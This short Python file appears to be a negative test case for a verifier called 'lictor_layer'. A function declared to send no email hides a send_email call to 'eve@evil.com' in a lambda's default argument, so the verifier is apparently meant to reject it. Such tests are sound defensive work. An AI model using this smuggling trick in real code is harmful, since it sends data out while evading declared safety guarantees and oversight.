# not proved: a lambda's default is evaluated where it stands
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, log


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    f = lambda x=send_email("eve@evil.com", "x"): 1
    log("fine")
